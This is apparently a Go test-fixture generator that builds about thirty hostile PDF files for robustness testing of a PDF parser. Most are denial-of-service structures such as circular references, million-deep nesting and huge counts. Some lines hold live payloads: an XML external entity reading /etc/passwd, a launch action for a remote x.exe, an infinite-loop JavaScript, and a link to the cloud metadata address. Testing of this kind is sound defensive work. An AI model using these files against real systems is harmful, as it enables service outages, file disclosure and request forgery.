package broken

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
)

const (
	million = 1_000_000
	deep    = 100_000
	catalog = "<< /Type /Catalog /Pages 2 0 R >>"
	onePage = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
)

// pdf makes a file of objects numbered from 1, with a valid cross-reference table. trailer has the entries of its
// trailer besides /Size.
func pdf(trailer string, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	places := make([]int, len(objects))
	for i, o := range objects {
		places[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, p := range places {
		fmt.Fprintf(&b, "%010d 00000 n \n", p)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d %s >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, start)
	return b.Bytes()
}

const root = "/Root 1 0 R"

// page is a file with one page; object 4 is its content, further ones follow from 5.
func page(resources, content string, more ...string) []byte {
	return pdf(root, append([]string{catalog, onePage,
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> " + resources + " >> >>",
		content}, more...)...)
}

func stream(dict, data string) string {
	return fmt.Sprintf("<< /Length %d %s >>\nstream\n%s\nendstream", len(data), dict, data)
}

// deflate packs data times over.
func deflate(data string, times int) string {
	for range times {
		var b bytes.Buffer
		w, _ := zlib.NewWriterLevel(&b, zlib.BestCompression) // the level is one there is
		w.Write([]byte(data))                                 // to memory
		w.Close()
		data = b.String()
	}
	return data
}

func filters(name string, times int) string {
	return "/Filter [" + strings.Repeat("/"+name+" ", times) + "]"
}

// chain makes n objects from number first on; object gets the number of the next one.
func chain(first, n int, object func(next int) string) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = object(first + i + 1)
	}
	return out
}

// hostilePDFs attack the structure of a file.
func hostilePDFs() []Recipe {
	list := []struct {
		name string
		make func() []byte
	}{
		{"a page tree 100,000 deep", func() []byte {
			tree := chain(
				2, deep,
				func(next int) string { return fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", next) },
			)
			return pdf(root, append(append([]string{catalog}, tree...), "<< /Type /Page /MediaBox [0 0 9 9] >>")...)
		}},
		{"a page tree whose kids are its ancestors", func() []byte {
			return pdf(
				root, catalog, "<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
				"<< /Type /Pages /Kids [2 0 R 3 0 R] /Parent 2 0 R >>",
			)
		}},
		{"parents in a circle", func() []byte {
			return pdf(
				root, catalog, "<< /Type /Pages /Kids [3 0 R] /Parent 3 0 R /Count 1 >>",
				"<< /Type /Page /Parent 2 0 R >>",
			)
		}},
		{"tables that follow each other in a circle", func() []byte {
			body := "%PDF-1.4\n1 0 obj\n" + catalog + "\nendobj\n"
			return []byte(fmt.Sprintf(
				"%sxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Size 2 /Prev %d >>\nstartxref\n%d\n%%%%EOF",
				body, len(body), len(body),
			))
		}},
		{"cross-reference streams in a circle", func() []byte {
			body := "%PDF-1.5\n1 0 obj\n" + catalog + "\nendobj\n"
			return []byte(fmt.Sprintf(
				"%s2 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF",
				body,
				stream(
					fmt.Sprintf("/Type /XRef /Root 1 0 R /Size 9 /W [1 2 1] /Prev %d", len(body)),
					strings.Repeat("\x01\x00\x09\x00", 9),
				),
				len(body),
			))
		}},
		{"cross-reference stream with fields of eight bytes", func() []byte {
			body := "%PDF-1.5\n1 0 obj\n" + catalog + "\nendobj\n"
			return []byte(fmt.Sprintf(
				"%s2 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF",
				body,
				stream(
					"/Type /XRef /Root 1 0 R /Size 2147483648 /W [8 8 8] /Index [0 2147483647 9223372036854775807 9]",
					strings.Repeat("\xff", 24*1000),
				),
				len(body),
			))
		}},
		{"an object stream that holds itself", func() []byte {
			return pdf(
				root, catalog, "<< /Kids [4 0 R] >>",
				stream("/Type /ObjStm /N 2 /First 8 /Extends 3 0 R", "3 0 4 9 << >> << /Type /Page >>"),
			)
		}},
		{"two object streams that extend each other", func() []byte {
			return pdf(
				root,
				catalog,
				"<< /Kids [5 0 R] >>",
				stream("/Type /ObjStm /N 1 /First 4 /Extends 4 0 R", "5 0 << >>"),
				stream("/Type /ObjStm /N 1 /First 4 /Extends 3 0 R", "5 0 << >>"),
			)
		}},
		{"an object stream of two billion objects", func() []byte {
			return pdf(
				root, catalog, "<< /Kids [5 0 R] >>",
				stream("/Type /ObjStm /N 2147483647 /First 2147483647", strings.Repeat("1 0 ", 1000)),
			)
		}},
		{"a length that is itself", func() []byte { return page("", "<< /Length 4 0 R >>\nstream\nBT ET\nendstream") }},
		{"arrays a million deep", func() []byte { return page("", strings.Repeat("[", million)) }},
		{"dictionaries a million deep", func() []byte { return page("", strings.Repeat("<</A", million)) }},
		{
			"a size of 2^31",
			func() []byte { return pdf(root+" /Size 2147483648", catalog, onePage, "<< /Type /Page >>") },
		},
		{"a count of 2^31", func() []byte {
			return pdf(root, catalog, "<< /Type /Pages /Kids [3 0 R] /Count 2147483648 >>", "<< /Type /Page >>")
		}},
		{"a count of -1", func() []byte {
			return pdf(root, catalog, "<< /Type /Pages /Kids [3 0 R] /Count -1 >>", "<< /Type /Page >>")
		}},
		{"no pages", func() []byte { return pdf(root, catalog, "<< /Type /Pages /Kids [] /Count 0 >>") }},
		{"100,000 pages", func() []byte {
			kids := strings.Repeat("3 0 R ", deep)
			return pdf(
				root, catalog, "<< /Type /Pages /Kids ["+kids+"] /Count 100000 >>",
				"<< /Type /Page /MediaBox [0 0 9 9] >>",
			)
		}},
		{"9,000 pages of the same content", func() []byte {
			return pdf(root, catalog, "<< /Type /Pages /Kids ["+strings.Repeat("3 0 R ", 9000)+"] /Count 9000 >>",
				"<< /Type /Page /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
				stream("/Filter /FlateDecode", deflate("BT /F1 9 Tf 50 700 Td "+strings.Repeat("(01/02/2025 SALARY 1,000.00 2,000.00) Tj 0 -9 Td ", 70)+"ET", 1)))
		}},
		{"50,000 updates", func() []byte {
			b := pdf(root, catalog, onePage, "<< /Type /Page /MediaBox [0 0 9 9] >>")
			last := bytes.LastIndex(b, []byte("xref\n0"))
			var out bytes.Buffer
			out.Write(b)
			for range deep / 2 {
				at := out.Len()
				fmt.Fprintf(
					&out, "xref\n0 0\ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", last, at,
				)
				last = at
			}
			return out.Bytes()
		}},
		{"a kilobyte of junk before the header", func() []byte {
			return append(bytes.Repeat([]byte("junk"), 255), pdf(root, catalog, onePage, "<< /Type /Page >>")...)
		}},
		{"a hybrid file whose stream is its table", func() []byte {
			b := pdf(root, catalog, onePage, "<< /Type /Page >>")
			at := bytes.LastIndex(b, []byte("xref\n0"))
			return bytes.Replace(
				b, []byte("trailer\n<<"), fmt.Appendf(nil, "trailer\n<< /XRefStm %d /Prev %d", at, at), 1,
			)
		}},
		{"an outline in a circle", func() []byte {
			return pdf(
				root, "<< /Type /Catalog /Pages 2 0 R /Outlines 4 0 R >>", onePage, "<< /Type /Page >>",
				"<< /First 5 0 R /Last 5 0 R /Count 9 >>",
				"<< /Title (a) /Next 5 0 R /Prev 5 0 R /First 4 0 R /Parent 5 0 R >>",
			)
		}},
		{"a form of XML with an external entity", func() []byte {
			return pdf(
				root,
				"<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R >> >>",
				onePage,
				"<< /Type /Page >>",
				stream("", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><xdp>&e;</xdp>`),
			)
		}},
		{"actions that start programs and open addresses", func() []byte {
			return pdf(
				root,
				`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (\\\\host\\share\\x.exe) /Next << /S /JavaScript /JS (while(1){}) /Next << /S /GoToR /F (\\\\host\\x.pdf) >> >> >> >>`,
				onePage, "<< /Type /Page /AA << /O << /S /URI /URI (http://169.254.169.254/) >> >> >>",
			)
		}},
		{"a protection nobody knows", func() []byte {
			return pdf(
				root+" /Encrypt << /Filter /Standard /V 9 /R 99 /Length 100000 /O (a) /U () /P -1 >> /ID [<> <>]",
				catalog, onePage, "<< /Type /Page >>",
			)
		}},
		{"a protection of contradictions", func() []byte {
			return pdf(
				root+" /Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /O (a) /U (b) /OE (c) /UE (d) /Perms (eeeeeeeeeeeeeeee) /P 0 /CF << /StdCF << /CFM /AESV3 >> >> /StmF /StdCF >>",
				catalog,
				onePage,
				"<< /Type /Page >>",
			)
		}},
		{"a page as large as the earth", func() []byte {
			return pdf(
				root, catalog, onePage,
				"<< /Type /Page /MediaBox [-1e38 -1e38 1e38 1e38] /UserUnit 1e30 /Rotate 2147483647 /Contents 4 0 R >>",
				stream("", "BT ET"),
			)
		}},
		{"references in a long row", func() []byte {
			return page("", "5 0 R", append(
				chain(5, deep, func(next int) string { return fmt.Sprintf("%d 0 R", next) }), stream("", "BT ET"),
			)...)
		}},
		{"objects without end", func() []byte { return []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj\n", million)) }},
		{"streams without end", func() []byte {
			return []byte("%PDF-1.4\n" + strings.Repeat("1 0 obj\n<< /Length 9 >>\nstream\n", deep*3))
		}},
	}
	out := make([]Recipe, len(list))
	for i, r := range list {
		out[i] = Recipe{Name: "pdf: " + r.name, Kind: "pdf", Make: r.make}
	}
	return out
}
